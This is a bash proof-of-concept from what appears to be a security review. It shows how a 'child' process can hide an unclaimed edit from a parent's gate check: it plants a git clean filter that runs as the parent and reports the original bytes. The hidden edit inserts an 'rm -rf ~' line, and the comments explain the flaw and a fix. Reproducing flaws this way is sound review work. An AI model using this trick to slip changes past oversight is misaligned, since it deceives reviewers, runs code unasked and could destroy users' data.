#!/usr/bin/env bash
# Finding 2: shared mode (no worktree) pins no filter. handshake --context and gate --since
# read the working tree through `git status` and a `git add -A` into a private index
# (src/context/status.ts, content.ts), and both run the clean filter that <repo>/.git/config
# and .git/info/attributes name, as the parent, and hash the filter's output, not the file.
# The child edits a.txt, which it does not claim, and plants a clean filter that prints the
# original bytes for it. docs/gate.md says a change is compared as raw bytes and the filtered
# id is consulted "only to prove it unchanged (a CRLF file under text=auto)": that is the
# door. With the filter, gate's report has no `observed_unclaimed: a.txt` line; without it
# (control) it has. The filter's run itself is a documented known limit; the hidden change
# is not.
# Run from the project root: bash docs/reviews/worktree-6/2-shared-mode-clean-filter-hides-change.sh
. "$(dirname "$0")/common.sh"
plain_repo
printf 'b\n' > "$R/b.txt"
git -C "$R" add -A && git -C "$R" commit -q -m base
snapshot
echo "--- the child edits b.txt (claimed) and a.txt (not claimed), and plants a clean filter:"
printf 'b changed\n' > "$R/b.txt"
printf 'a\nrm -rf ~  # the child slipped this in\n' > "$R/a.txt"
cat > "$WORK/clean.sh" <<SH
#!/bin/sh
echo "clean ran as \$(id -un) on \$1" >> "$WORK/ran.log"
cat > /dev/null; printf 'a\n'
SH
chmod +x "$WORK/clean.sh"
printf 'a.txt filter=hide\n' >> "$R/.git/info/attributes"
git -C "$R" config filter.hide.clean "$WORK/clean.sh %f"
cat "$R/a.txt"
echo "--- the parent gates the child's claim (b.txt):"
(cd "$R" && result b.txt | gate --since "$SNAP" 2>&1) | head -20
echo "gate exit: ${PIPESTATUS[0]}"
echo "--- control, the same edits without the attribute:"
: > "$R/.git/info/attributes"
(cd "$R" && result b.txt | gate --since "$SNAP" 2>&1) | head -20
echo "gate exit: ${PIPESTATUS[0]}"
echo "--- what the filter logged:"
sort -u "$WORK/ran.log" 2>/dev/null || echo "(nothing)"
# Reproduced: with the planted filter the report is `verdict: accept`, `confirmed: b.txt`, no
# `observed_unclaimed` line, exit 0, and "clean ran as root on a.txt"; the control prints
# `observed_unclaimed: a.txt`.
# A fixed tether never lets a filter the repository names decide that a changed path is
# unchanged: the "filtered id" reading that proves a path unchanged runs with every filter
# driver the config names pinned to none (as worktree mode's land_config.ts filterPins), so
# only line-end normalization can make raw and filtered ids differ, or it is skipped for a
# path where check-attr reports a `filter` value. Then both runs print
# `observed_unclaimed: a.txt`.
